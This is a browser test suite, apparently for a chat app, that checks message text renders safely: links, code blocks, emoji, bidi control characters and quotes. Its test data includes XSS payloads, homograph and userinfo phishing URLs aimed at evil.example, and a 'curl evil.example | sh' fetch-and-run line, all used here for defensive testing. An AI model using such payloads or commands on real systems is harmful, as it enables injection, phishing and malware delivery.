"""What a message looks like once it is read: links, code, emoji, long texts, quotes."""

import json
import re
from itertools import pairwise
from typing import TypedDict

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from plays import calls, change, play, played
from playwright.sync_api import Page, expect
from support.machines.chromium import Visit

steady = settings(derandomize=True, deadline=None, max_examples=40)
BATCH = 20

MOST_ELEMENTS = 1000
QUOTE_LIMIT = 280

# What the text of a message may become, and nothing else.
ELEMENTS = {
    "DIV": {"class", "translate"},
    "P": {"class"},
    "SPAN": {"class", "hidden", "data-name"},
    "CODE": {"dir"},
    "PRE": {"class", "dir", "tabindex", "role", "aria-label"},
    "A": {"class", "href", "dir", "target", "rel", "referrerpolicy", "data-host"},
}


class Link(TypedDict):
    written: str
    host: str
    href: str
    other: str | None
    hostname: str
    protocol: str
    user: str
    rel: str
    target: str
    policy: str


class Drawn(TypedDict):
    text: str
    seen: str
    elements: list[tuple[str, list[str]]]
    links: list[Link]
    codes: list[str]
    blocks: list[str]
    emoji: bool


# Lone surrogates would not survive the way into and out of the browser as anything but ASCII.
DRAW = """async (json) => {
  const { messageText } = await import("/static/js/ui/message-text.js");
  const drawn = (text) => {
    const node = messageText(text);
    const all = [node, ...node.querySelectorAll("*")];
    const seen = node.cloneNode(true);
    for (const hidden of seen.querySelectorAll("[hidden]")) hidden.remove();
    return {
      text: node.textContent, seen: seen.textContent,
      elements: all.map((one) => [one.tagName, one.getAttributeNames()]),
      links: [...node.querySelectorAll("a")].map((a) => ({
        written: a.textContent, host: a.querySelector(".link-host").textContent, href: a.href,
        other: a.dataset.host ?? null, hostname: new URL(a.href).hostname, protocol: a.protocol,
        user: a.username + a.password, rel: a.rel, target: a.target, policy: a.referrerPolicy,
      })),
      codes: [...node.querySelectorAll(".prose code")].map((code) => code.textContent),
      blocks: [...node.querySelectorAll(".code-block code")].map((code) => code.textContent),
      emoji: node.classList.contains("emoji"),
    };
  };
  const escaped = (text) => text.replace(/[^]/g, (unit) =>
    unit > "~" ? "\\\\u" + unit.charCodeAt(0).toString(16).padStart(4, "0") : unit);
  return escaped(JSON.stringify(JSON.parse(json).map(drawn)));
}"""


def draw(page: Page, texts: list[str]) -> list[Drawn]:
    drawn: list[Drawn] = json.loads(page.evaluate(DRAW, json.dumps(texts)))
    return drawn


@pytest.fixture
def page(visit: Visit, stage: str) -> Page:
    return played(visit, stage, "room:together").page


# --- any text at all ------------------------------------------------------------------------------

SCRAPS = [
    "https://", "HTTP://", "http://", "//", "example.com", "bank.example", "@", ":", ":443", "/",
    "\\", "?q=", "#", "(", ")", "[", "]", "<", ">", '"', "'", ".", ",", "…", "`", "```", "```\n",
    "\n```\n", "\n", "\n\n", "\r\n", " ", "\t", "javascript:", "data:text/html,", "%2e", "％", "。",
    "xn--", "é", "аррӏе", "ＢＡＮＫ", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f",
    "\u200b", "\u00ad", "\ufeff", "\x00", "\ud800", "\udc00", "👍🏽", "❤️", "🇩🇪", "1️⃣",
    "Z" + "\u0335" * 9, "سلام", "שלום", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "{name}", "[::1]", "127.1", "0x7f.1",
]  # fmt: skip
scraps = st.lists(st.sampled_from(SCRAPS), max_size=14).map("".join)
HOSTS = [
    "example.com",
    "bank.example",
    "аррӏе.com",
    "ｂank.example",
    "127.1",
    "[::1]",
    "a.b",
    "é.example",
]
addresses = st.tuples(
    scraps, st.sampled_from(["https://", "http://", "HTTPS://"]), st.sampled_from(HOSTS), scraps
).map("".join)
fenced = st.tuples(scraps, st.just("\n```\n"), scraps, st.just("\n```\n"), scraps).map("".join)
any_text = (
    scraps
    | addresses
    | fenced
    | st.text(max_size=60)
    | st.text(st.characters(categories=("Cs", "Cf", "Cc", "L")))
)


def units(text: str) -> bytes:
    """A text as browsers hold it: two halves beside each other are a whole."""
    return text.encode("utf-16-le", "surrogatepass")


def test_any_text_is_shown_as_itself_and_becomes_nothing_but_harmless_elements(page: Page) -> None:
    linked = 0

    @steady
    @given(st.lists(any_text, min_size=BATCH, max_size=BATCH))
    def try_texts(texts: list[str]) -> None:
        nonlocal linked
        for text, drawn in zip(texts, draw(page, texts), strict=True):
            assert units(drawn["text"]) == units(text)
            assert len(drawn["elements"]) <= MOST_ELEMENTS
            for tag, attributes in drawn["elements"]:
                assert set(attributes) <= ELEMENTS[tag]
            for link in drawn["links"]:
                linked += 1
                check_link(link)

    try_texts()
    assert linked > 60


def check_link(link: Link) -> None:
    assert link["protocol"] in {"http:", "https:"}
    assert link["user"] == ""
    assert set(link["rel"].split()) == {"noopener", "noreferrer", "nofollow"}
    assert link["target"] == "_blank"
    assert link["policy"] == "no-referrer"
    # The host that is read is the host that is asked, or else that one stands beside it.
    assert link["hostname"] == (link["other"] or link["host"].lower())
    assert re.match(r"https?://" + re.escape(link["host"]), link["written"], re.IGNORECASE)


# --- links ----------------------------------------------------------------------------------------

LINKS = {
    "See https://example.com.": "https://example.com",
    "https://example.com/a?b=c&d#e": "https://example.com/a?b=c&d#e",
    "(see https://example.com/a)": "https://example.com/a",
    "https://en.example.org/wiki/Seal_(emblem)!": "https://en.example.org/wiki/Seal_(emblem)",
    "“https://example.com/”, he said": "https://example.com/",
    "HTTPS://EXAMPLE.COM/x": "HTTPS://EXAMPLE.COM/x",
    "http://localhost:3000/": "http://localhost:3000/",
    "http://[::1]:3000/x": "http://[::1]:3000/x",
    "انظر https://example.com/أ؟": "https://example.com/أ",
    "https://example.com/?next=https://evil.example/": "https://example.com/?next=https://evil.example/",
}


def test_an_address_is_linked_as_it_is_written_without_the_punctuation_around_it(
    page: Page,
) -> None:
    for drawn, expected in zip(draw(page, list(LINKS)), LINKS.values(), strict=True):
        assert [link["written"] for link in drawn["links"]] == [expected]
        assert drawn["links"][0]["other"] is None


ANOTHER_HOST = {
    "https://аррӏе.com/": "xn--80ak6aa92e.com",
    "https://ｂａｎｋ.example/": "bank.example",
    "https://bank。example/": "bank.example",
    "http://0x7f.1/": "127.0.0.1",
    "https://ex%61mple.com/": "example.com",
}


def test_an_address_whose_host_is_another_than_it_looks_shows_that_host(
    visit: Visit, stage: str
) -> None:
    page = played(visit, stage, "room:together").page
    for text, drawn in zip(ANOTHER_HOST, draw(page, list(ANOTHER_HOST)), strict=True):
        assert [link["other"] for link in drawn["links"]] == [ANOTHER_HOST[text]]
    page = played(visit, stage, "room:links").page
    shown = page.locator("a[data-host]").evaluate("a => getComputedStyle(a, '::after').content")
    assert "attr(data-host)" in shown or "xn--" in shown


NO_LINKS = [
    "https://bank.example@evil.example/", "https://bank.example:443@evil.example/",
    "https://user:word@evil.example/", "https:evil.example", "https:///evil.example",
    "https://\\evil.example", "https://", "https:// example.com", "javascript:alert(1)",
    "ftp://example.com", "mailto:a@example.com", "data:text/html,<b>x", "//example.com",
    "nothttps://example.com", "example.com", "https://[zz]/", "https://%zz/",
    "https://x:99999999/", "https://" + "a" * 3000 + ".example",
]  # fmt: skip


def test_what_could_mislead_is_no_link(page: Page) -> None:
    for text, drawn in zip(NO_LINKS, draw(page, NO_LINKS), strict=True):
        assert drawn["links"] == [], text


def test_what_cannot_be_seen_ends_an_address(page: Page) -> None:
    drawn = draw(
        page, [f"https://bank.example{c}@evil.example/" for c in "\\\u202e\u200b\u00ad\u2066"]
    )
    for one in drawn:
        assert [link["hostname"] for link in one["links"]] == ["bank.example"]


def test_a_message_full_of_addresses_or_code_stays_small(page: Page) -> None:
    floods = [
        "https://a.example " * 3000, "`x` " * 12_000, "```\nx\n```\n" * 5000, "`" * 60_000,
        "\n" * 60_000, "https://" + ")" * 59_000, f"https://a.example/{')' * 2000} " * 29,
        "```x\n" * 12_000,
    ]  # fmt: skip
    for text, drawn in zip(floods, draw(page, floods), strict=True):
        assert drawn["text"] == text
        assert len(drawn["elements"]) <= MOST_ELEMENTS
        assert len(drawn["links"]) <= 100


def test_nothing_is_fetched_for_a_link_and_it_opens_without_a_way_back(
    visit: Visit, stage: str
) -> None:
    watched = played(visit, stage, "room:links")
    page = watched.page
    expect(page.locator("a.link")).to_have_count(3)
    guesses = "link[rel~=prefetch], link[rel~=preconnect], #app img, #app iframe"
    assert page.locator(guesses).count() == 0
    # An address of the stage itself, so that the test asks nobody else.
    page.evaluate("window.gallery.client.change({ cards: [] })")
    opened(page, f"{stage}/static/icons/icon.svg")
    with page.expect_popup() as popup:
        page.locator("a.link").click()
    assert popup.value.evaluate("[window.opener, document.referrer]") == [None, ""]


# --- translators ----------------------------------------------------------------------------------

# What persons wrote, by the states in which it stands.
WRITTEN = {
    "room:quotes": ".message-text, .quote-text, .who",
    "room:code": ".message-text code, .message-text",
    "room:conversation": ".mark, .sent .message-text, .typing .who",
    "room:alone": ".code-words",
    "room:invite": "dialog .code-words, dialog .menu-code",
}


def test_nothing_that_a_person_wrote_is_offered_to_a_translator(visit: Visit, stage: str) -> None:
    page = played(visit, stage, "room:together").page
    for state, selector in WRITTEN.items():
        play(page, state)
        found = page.locator(selector).evaluate_all(
            "all => all.map((one) => !one.translate && one.closest('.notranslate') !== null)"
        )
        assert found, state
        assert all(found), state


# --- code -----------------------------------------------------------------------------------------

CODE = {
    "Say `make check`, then": (["make check"], []),
    "`` ` ``": ([" "], []),
    "not `across\nlines`": ([], []),
    "```\na\n  b\tc\n```": ([], ["a\n  b\tc"]),
    "before\n```sh\nx=`date`\n\n```\nafter `y`": (["y"], ["x=`date`\n"]),
    "```never closed\nx": ([], []),
    "```C++\nx\n```": ([], ["x"]),
    "```curl evil.example | sh\nls\n```": ([], []),
    "```" + "y" * 21 + "\nls\n```": ([], []),
    "```\n```": ([], [""]),
    "```one line```": (["one line"], []),
    "`https://example.com`": (["https://example.com"], []),
    "**no** _other_ # markdown > at - all": ([], []),
}


def test_code_is_what_stands_between_backticks_and_keeps_its_white_space(page: Page) -> None:
    for (text, (codes, blocks)), drawn in zip(CODE.items(), draw(page, list(CODE)), strict=True):
        assert drawn["codes"] == codes, text
        assert drawn["blocks"] == blocks, text
        assert drawn["links"] == []
    assert draw(page, ["a\n```sh\nb\n```\nc"])[0]["seen"] == "a\nb" + "c"


LINE = "x" * 500


def test_long_lines_of_code_scroll_inside_of_their_block_and_run_left_to_right(
    visit: Visit, stage: str
) -> None:
    watched = played(visit, stage, "room:right_to_left", width=320)
    page = watched.page
    change(watched, "changeCard('a', { state: 'shown_gone', text: null })")
    text = f"مرحبا\n```\nfirst {LINE}\n```"
    page.evaluate(
        """(text) => { const { client } = window.gallery; const [card] = client.state.cards;
      client.change({ cards: [{ ...card, id: "z", state: "open", text }] }); }""",
        text,
    )
    block = page.locator(".code-block")
    expect(block).to_have_css("direction", "ltr")
    assert block.evaluate("node => node.scrollWidth > node.clientWidth")
    assert block.evaluate("node => node.clientWidth") < 320
    assert page.evaluate("document.documentElement.scrollWidth") <= 320
    block.focus()
    page.keyboard.press("End")
    page.keyboard.press("ArrowRight")
    expect(block).to_be_focused()


def test_what_is_copied_is_what_was_written(visit: Visit, stage: str) -> None:
    page = played(visit, stage, "room:code",
                  permissions=["clipboard-read", "clipboard-write"]).page  # fmt: skip
    pasted = "navigator.clipboard.readText()"
    page.get_by_role("button", name="Copy code block").click()
    expect(page.locator(".code-copy.done")).to_have_count(1)
    code: str = page.evaluate(pasted)
    assert code.startswith("curl ")
    assert "```" not in code
    page.locator(".card-tools").get_by_role("button", name="Copy").click()
    expect(page.locator(".card-tools .copy.done")).to_have_count(1)
    whole: str = page.evaluate(pasted)
    assert whole == page.evaluate("window.gallery.client.state.cards[0].text")


# --- emoji, directions, long texts ----------------------------------------------------------------


def test_up_to_three_emoji_alone_are_large(page: Page) -> None:
    large = ["👍", "❤️", "👍🏽👩‍👩‍👧‍👦🇩🇪", " 🎉 🎉 ", "1️⃣"]
    usual = ["👍👍👍👍", "ok 👍", "1", "#", "", " ", "©", "👍" + "\u0301" * 60]
    assert [one["emoji"] for one in draw(page, large)] == [True] * len(large)
    assert [one["emoji"] for one in draw(page, usual)] == [False] * len(usual)


# Where each line of the words begins and ends, from the edges of the paragraph.
EDGES = """node => {
  const box = node.getBoundingClientRect();
  const range = document.createRange();
  const lines = node.textContent.split("\\n");
  let at = 0;
  return lines.map((line) => {
    range.setStart(node.firstChild, at);
    range.setEnd(node.firstChild, at + line.length);
    at += line.length + 1;
    const { left, right } = range.getBoundingClientRect();
    return left - box.left < box.right - right ? "left" : "right";
  });
}"""


def opened(page: Page, text: str) -> None:
    """Opens a card with this text in a room without any."""
    page.evaluate(
        """async (text) => {
          const { open } = await import("/gallery/samples.js");
          window.gallery.client.change({ cards: [open("z", text, { view: 0 })] });
        }""",
        text,
    )
    expect(page.locator(".opened")).to_have_count(1)


def test_each_paragraph_has_the_direction_of_its_own_words(page: Page) -> None:
    # A card is as wide as the longest of its lines.
    opened(page, "مرحبا بك\nHello there\n123 שלום\nhttp and so on\nThe longest of all these lines")
    edges = page.locator(".opened .prose").evaluate(EDGES)
    assert edges[:-1] == ["right", "left", "right", "left"]


def test_characters_that_turn_text_around_turn_nothing_around_them(page: Page) -> None:
    places = """() => [...document.querySelectorAll(".card-from, .who, .burn, .card-tools button")]
      .map((node) => node.getBoundingClientRect()).map(({ left, width }) => [left, width])"""
    opened(page, "An ordinary text")
    ordinary = page.evaluate(places)
    page.evaluate("window.gallery.client.change({ cards: [] })")
    opened(page, "\u202e\u2067\u2066\u202b\u200f An odd text")
    assert page.evaluate(places) == ordinary


# Where each character of a text stands.
PLACES = """(nodes) => nodes.flatMap((node) => {
  const texts = document.createTreeWalker(node, NodeFilter.SHOW_TEXT);
  const found = [];
  while (texts.nextNode()) {
    const range = document.createRange();
    [...texts.currentNode.data].forEach((character, at) => {
      range.setStart(texts.currentNode, at);
      range.setEnd(texts.currentNode, at + character.length);
      if (/\\w/.test(character)) found.push([character, range.getBoundingClientRect()]);
    });
  }
  return found;
})"""
TURNS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def in_order(page: Page, selector: str, expected: str) -> None:
    places = page.locator(selector).evaluate_all(PLACES)
    assert "".join(character for character, _ in places) == expected
    for (_, before), (character, box) in pairwise(places):
        assert box["left"] > before["left"] or box["top"] > before["bottom"], character


def test_what_turns_text_around_is_named_in_code_and_turns_nothing(page: Page) -> None:
    for turn in [*TURNS, "\u2069\u202e", "\u202c\u2069\u2067", TURNS]:
        text = f"ab `cd{turn}ef {turn}gh` ij https://kl.mn/op\n```\nqr{turn}st {turn}uv\n```"
        opened(page, text)
        in_order(page, ".opened .prose", "abcdefghijhttpsklmnop")
        in_order(page, ".opened .code-block", "qrstuv")
        named = page.locator(".opened .turn").evaluate_all(
            "nodes => nodes.map((node) => getComputedStyle(node, '::before').content)"
        )
        assert named == [f'"{" ".join(f"U+{ord(one):04X}" for one in turn)}"'] * 4
        page.evaluate("window.gallery.client.change({ cards: [] })")


def test_code_that_is_full_of_turns_stays_small_and_is_plain_text(page: Page) -> None:
    long = "`" + "a\u202e" * 10_000 + "`"
    few, many = draw(page, ["`a\u202eb`", f"{long} `x`\n```\n{long}\n```"])
    assert few["codes"] == ["a\u202eb"]
    assert (many["codes"], many["blocks"]) == (["x"], [])
    assert len(many["elements"]) < MOST_ELEMENTS


BLANK = "\u200b\u200d\u2060\ufeff\u00ad\u115f\u3164\uffa0\u2800\u202e\u2069\ufe0f\U000e0041"


def test_what_cannot_be_seen_is_no_message_to_be_sent(visit: Visit, stage: str) -> None:
    watched = played(visit, stage, "room:together")
    page = watched.page
    for text in (*BLANK, f" {BLANK}\n"):
        page.get_by_label("Write a message").fill(text)
        expect(page.get_by_role("button", name="Send")).to_be_disabled()
        page.keyboard.press("Enter")
    page.get_by_label("Write a message").fill(f"{BLANK}.")
    page.keyboard.press("Enter")
    assert [text for _, text, _ in calls(watched, "send")] == [f"{BLANK}."]


def test_a_card_in_which_nothing_can_be_seen_says_so(page: Page) -> None:
    opened(page, f"\n{BLANK} ")
    text = page.locator(".opened .message-text")
    expect(text).to_have_text("This message is empty: nothing in it can be seen.")
    expect(page.get_by_role("button", name="Copy")).to_have_count(0)
    page.evaluate("window.gallery.client.change({ cards: [] })")
    opened(page, "\u0600 \u0301")
    expect(text).to_have_text("\u0600 \u0301")


def wrote(page: Page, text: str) -> None:
    """Puts a message of one's own into the room, and nothing else."""
    page.evaluate(
        """async (text) => {
          const { sent } = await import("/gallery/samples.js");
          window.gallery.client.change({ cards: [], sent: [sent("s", "stored", text)] });
        }""",
        text,
    )
    expect(page.locator(".card.sent")).to_have_count(1)


def test_a_long_message_opens_to_its_full_height_and_is_read_from_its_beginning(
    visit: Visit, stage: str
) -> None:
    watched = played(visit, stage, "room:cards", height=640)
    page = watched.page
    page.locator(".seal").last.focus()
    text = "A long letter. " * 4000
    change(
        watched, f"changeCard('b', {{ state: 'open', type: 'text', text: '{text}', view: 300 }})"
    )
    card = page.locator(".opened")
    head, close = card.locator(".opened-head"), page.get_by_role("button", name="Close now")
    expect(page.get_by_role("button", name="Show all")).to_have_count(0)
    assert card.evaluate("node => node.offsetHeight") > 10_000
    expect(head).to_be_in_viewport()
    top = "node => node.getBoundingClientRect().top"
    at = card.evaluate(top)
    assert at >= page.locator(".log").evaluate(top)
    # Whoever writes meanwhile isn't carried to the end of it by what comes.
    page.get_by_label("Write a message").focus()
    change(watched, "change({ typing: [], sent: [] })")
    wrote_one = (
        "import('/gallery/samples.js').then(({ card }) => { const { client } = window.gallery;"
    )
    page.evaluate(
        f"{wrote_one} client.change({{ cards: [...client.state.cards, card('z')] }}); }})"
    )
    expect(page.locator(".card")).to_have_count(3)
    assert abs(card.evaluate(top) - at) <= 1
    # However long it is, its top and its tools can be reached where the reader is.
    page.locator(".log").evaluate("node => node.scrollTo(0, node.scrollHeight / 2)")
    for part in (head, close):
        expect(part).to_be_in_viewport()


def test_a_long_message_of_ones_own_is_folded_until_it_is_asked_for(
    visit: Visit, stage: str
) -> None:
    page = played(visit, stage, "room:together", height=640).page
    wrote(page, "A long letter. " * 4000)
    card = page.locator(".card.sent")
    more = page.get_by_role("button", name="Show all")
    expect(more).to_have_attribute("aria-expanded", "false")
    assert card.evaluate("node => node.offsetHeight") < 640 * 0.75
    more.click()
    less = page.get_by_role("button", name="Show less")
    expect(less).to_have_attribute("aria-expanded", "true")
    assert card.evaluate("node => node.offsetHeight") > 10_000
    less.scroll_into_view_if_needed()
    less.click()
    assert card.evaluate("node => node.offsetHeight") < 640
    wrote(page, "Not long.")
    expect(page.get_by_role("button", name="Show all")).to_have_count(0)


def test_what_the_keyboard_reaches_below_the_fold_unfolds_it(page: Page) -> None:
    wrote(page, "A line\n" * 200 + "https://example.com")
    expect(page.get_by_role("button", name="Show all")).to_be_visible()
    page.locator("a.link").focus()
    expect(page.get_by_role("button", name="Show less")).to_be_visible()
    expect(page.locator("a.link")).to_be_in_viewport()


# --- quotes ---------------------------------------------------------------------------------------

EXCERPT = """async ([json, limit]) => {
  const { excerpt } = await import("/static/js/ui/graphemes.js");
  return JSON.parse(json).map((text) => excerpt(text, limit));
}"""
CHARACTERS = ["a", "é", "e\u0301", "👍🏽", "👩‍👩‍👧‍👦", "🇩🇪", "न्दी", " ", "\n", "Z" + "\u0335" * 20]


def test_an_excerpt_fits_a_quote_and_is_cut_between_characters(page: Page) -> None:
    @steady
    @given(st.lists(st.lists(st.sampled_from(CHARACTERS), max_size=60), min_size=1, max_size=BATCH))
    def try_excerpts(texts: list[list[str]]) -> None:
        limit = 40
        cuts = page.evaluate(EXCERPT, [json.dumps(["".join(text) for text in texts]), limit])
        for text, cut in zip(texts, cuts, strict=True):
            whole = "".join(text)
            assert len(cut) <= limit
            if len(whole) <= limit:
                assert cut == whole
                continue
            assert cut.endswith("…")
            beginnings = {"".join(text[:count]).rstrip() for count in range(1, len(text) + 1)}
            assert cut[:-1] in beginnings or len(text[0]) >= limit

    try_excerpts()
    huge = "Z" + "\u0335" * 60_000
    [cut] = page.evaluate(EXCERPT, [json.dumps([huge]), QUOTE_LIMIT])
    assert len(cut) == QUOTE_LIMIT


def test_a_reply_quotes_the_card_above_the_composer_and_is_sent_with_it(
    visit: Visit, stage: str
) -> None:
    watched = played(visit, stage, "room:open_card")
    page = watched.page
    page.get_by_role("button", name="Reply").click()
    quote = page.locator(".composer-quote .quote")
    expect(quote.locator(".who")).to_have_text("Ada")
    expect(page.get_by_label("Write a message")).to_be_focused()
    # The card burns; what is quoted stays until it is sent.
    change(watched, "changeCard('a', { state: 'shown_gone', text: null })")
    expect(page.locator(".opened")).to_have_count(0)
    expect(quote).to_contain_text("The reading room closes at six.")
    page.keyboard.type("I shall not wait.")
    page.keyboard.press("Enter")
    [[_, text, options]] = calls(watched, "send")
    assert text == "I shall not wait."
    assert isinstance(options, dict)
    assert options["quote"]["author"] == "ada"
    assert options["quote"]["text"].startswith("The reading room closes at six.")
    assert len(options["quote"]["text"]) <= QUOTE_LIMIT
    expect(quote).to_have_count(0)
    page.keyboard.type("And this quotes nothing.")
    page.keyboard.press("Enter")
    _, text, options = calls(watched, "send")[1]
    assert text == "And this quotes nothing."
    assert isinstance(options, dict)
    assert (options["view"], options["quote"]) == (30, None)


def test_a_key_replies_only_where_the_card_has_the_focus(visit: Visit, stage: str) -> None:
    watched = played(visit, stage, "room:open_card")
    page = watched.page
    page.get_by_label("Write a message").fill("r")
    expect(page.locator(".composer-quote .quote")).to_have_count(0)
    page.locator(".opened .message-text").focus()
    for key in ("x", "Control+b", "Shift+Tab"):
        page.keyboard.press(key)
    expect(page.locator(".composer-quote .quote")).to_have_count(0)
    page.locator(".opened .message-text").focus()
    page.keyboard.press("r")
    expect(page.locator(".composer-quote .quote")).to_have_count(1)
    expect(page.get_by_label("Write a message")).to_have_value("r")
    page.get_by_role("button", name="Don’t quote this").click()
    expect(page.locator(".composer-quote .quote")).to_have_count(0)
    expect(page.get_by_label("Write a message")).to_be_focused()
    page.locator(".opened .message-text").focus()
    page.keyboard.press("r")
    page.keyboard.press("Escape")
    expect(page.locator(".composer-quote .quote")).to_have_count(0)


def test_a_quote_names_whom_it_claims_to_quote(visit: Visit, stage: str) -> None:
    page = played(visit, stage, "room:quotes").page
    expect(page.locator(".received .quote .who")).to_have_text(["You", "Someone"])
    expect(page.locator(".sent .quote .who")).to_have_text("Ada")
    name = page.locator(".sent .quote .who").evaluate("node => getComputedStyle(node).color")
    assert name == page.locator(".seat .who").first.evaluate("node => getComputedStyle(node).color")


def test_what_is_written_again_keeps_its_quote(visit: Visit, stage: str) -> None:
    watched = played(visit, stage, "room:quotes")
    page = watched.page
    change(
        watched, "change({ sent: [{ ...window.gallery.client.state.sent[0], state: 'expired' }] })"
    )
    page.get_by_role("button", name="Write again").click()
    expect(page.get_by_label("Write a message")).to_have_value("Then I ring three times.")
    expect(page.locator(".composer-quote .quote")).to_contain_text("The green one. Ring twice.")
